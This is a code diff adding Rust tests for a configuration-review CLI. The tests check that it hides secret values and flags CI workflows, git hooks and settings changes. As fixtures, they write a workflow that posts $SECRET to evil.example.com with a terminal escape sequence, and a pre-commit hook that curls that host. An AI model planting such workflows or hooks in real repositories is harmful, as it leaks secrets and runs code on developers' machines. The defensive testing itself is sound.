@@ -229,6 +229,32 @@ fn secrets_are_shown_as_references_only() {
 }
 
 #[test]
+fn extra_keys_beside_env_are_a_change_shown_without_their_value() {
+    let env = repo();
+    write_ext(
+        &env,
+        "server.toml",
+        SERVER.replace(
+            "{ env = \"PIZZABOT_SECRET\" }",
+            "{ env = \"PIZZABOT_SECRET\", value = \"s3cr3t-value\" }",
+        ),
+    );
+    commit(&env, "secret beside the reference");
+    for format in ["text", "markdown", "json"] {
+        let out = env.cekops(&["diff", ID, "--format", format]);
+        out.code(2)
+            .contains("client_secret")
+            .contains("value = <hidden, 14 bytes>")
+            .lacks("s3cr3t-value");
+    }
+    // and validate refuses it (as the pre-commit hook and review request do)
+    env.cekops(&["validate", "--format", "json"])
+        .code(1)
+        .contains("secret-extra-key")
+        .lacks("s3cr3t-value");
+}
+
+#[test]
 fn no_changes_exits_0() {
     let env = repo();
     let out = env.cekops(&["diff", ID]);
@@ -365,8 +391,12 @@ fn repository_settings_changes_are_shown_without_an_id() {
         .contains("repository settings (cekops.toml)")
         .contains("+ review.reviewers: \"bob@example.com\"")
         .contains("~ review.required_approvals: 1 → 2");
-    // Not part of one extension's diff.
-    env.cekops(&["diff", ID]).code(0);
+    // With an ID the extension has no change, but the branch carries the settings change, which a
+    // review would bring to service: shown as a file, flagged.
+    env.cekops(&["diff", ID])
+        .code(2)
+        .contains("!   ~ cekops.toml (modified) — repository settings")
+        .contains("+required_approvals = 2");
 }
 
 #[test]
@@ -562,4 +592,94 @@ fn no_changes_and_errors_output() {
     t.cekops(&["diff", ID, "--from", "nosuchrev"]).code(1);
     t.cekops(&["diff", "com.example.pizzabox"]).code(1);
     snapshot!(&env, "no_changes_and_errors", t.text());
+}
+
+const EVIL: &str = "name: evil\non: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$SECRET\" https://evil.example.com \u{1b}]0;hidden\u{7}\n";
+
+#[test]
+fn repository_files_of_a_config_branch_are_shown_and_flagged() {
+    let env = repo();
+    env.git(&["checkout", "-q", "-b", "test/ci", "service"]);
+    env.write(".github/workflows/evil.yml", EVIL);
+    env.write("docs/notes.md", "hello\n");
+    commit(&env, "ci");
+    let out = env.cekops(&["diff", "ci"]);
+    out.code(2)
+        .contains("repository files (outside the extension; a review brings them to service too)")
+        .contains("!   + .github/workflows/evil.yml (added) — CI workflow: runs in CI with the repository's secrets")
+        .contains("+      - run: curl -d \"$SECRET\" https://evil.example.com \\u{1b}]0;hidden\\u{7}")
+        .contains("    + docs/notes.md (added)")
+        .contains("2 files outside the extensions, 2 changes; 1 file to read with care")
+        .lacks("no changes");
+    assert!(!out.stdout.contains('\u{1b}'));
+    // without an ID (HEAD = test/ci) and in the other formats
+    env.cekops(&["diff"])
+        .code(2)
+        .contains(".github/workflows/evil.yml");
+    let out = env.cekops(&["diff", "ci", "--format", "json"]);
+    out.code(2);
+    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    assert_eq!(v["files"][0]["path"], ".github/workflows/evil.yml");
+    assert_eq!(v["files"][0]["kind"], "ci-workflow");
+    assert_eq!(v["files"][0]["flagged"], true);
+    assert_eq!(v["files"][1]["path"], "docs/notes.md");
+    assert_eq!(v["files"][1]["flagged"], false);
+    env.cekops(&["diff", "ci", "--format", "markdown"])
+        .code(2)
+        .contains("#### Repository files (outside the extension)")
+        .contains("- ⚠️ `.github/workflows/evil.yml` (added)")
+        .contains("```diff\n@@");
+
+    // an extension review that also touches a hook and cekops.toml shows them with its own diff
+    env.git(&["checkout", "-q", &format!("test/{ID}")]);
+    env.write(
+        ".githooks/pre-commit",
+        "#!/bin/sh\ncurl https://evil.example.com\n",
+    );
+    env.write(
+        "cekops.toml",
+        "[review]\nreviewers = [\"mallory@example.com\"]\n",
+    );
+    write_ext(
+        &env,
+        "interaction-model/intents/Hours.toml",
+        "utterances = [\"몇 시까지 해\"]\n",
+    );
+    commit(&env, "hours, and more");
+    env.cekops(&["diff", ID])
+        .code(2)
+        .contains("!   + .githooks/pre-commit (added) — hook: runs on developers' machines")
+        .contains("!   ~ cekops.toml (modified) — repository settings: branch names and the review policy")
+        .contains("-reviewers = [\"alice@example.com\"]")
+        .contains("Hours");
+}
+
+#[test]
+fn uncommitted_edits_on_the_checked_out_test_branch_are_compared_and_labelled() {
+    let env = repo();
+    // committed: nothing differs yet
+    env.cekops(&["diff", ID]).code(0).contains("no changes");
+    write_ext(
+        &env,
+        "interaction-model/intents/Hours.toml",
+        "utterances = [\"몇 시까지 해\"]\n",
+    );
+    let out = env.cekops(&["diff", ID]);
+    out.code(2)
+        .contains(&format!(
+            "diff service → test/{ID} + uncommitted edits (work tree)"
+        ))
+        .contains("영업시간 알려줘");
+    // the commit itself, on request
+    env.cekops(&["diff", ID, "--to", &format!("test/{ID}")])
+        .code(0)
+        .contains("no changes");
+    // --work-tree without an ID, untracked files included
+    env.write("notes.txt", "draft\n");
+    env.cekops(&["diff", "--work-tree"])
+        .code(2)
+        .contains("diff service → work tree")
+        .contains("+ notes.txt (added)")
+        .contains("영업시간 알려줘");
+    env.cekops(&["diff", "--work-tree", "--to", "HEAD"]).code(1);
 }
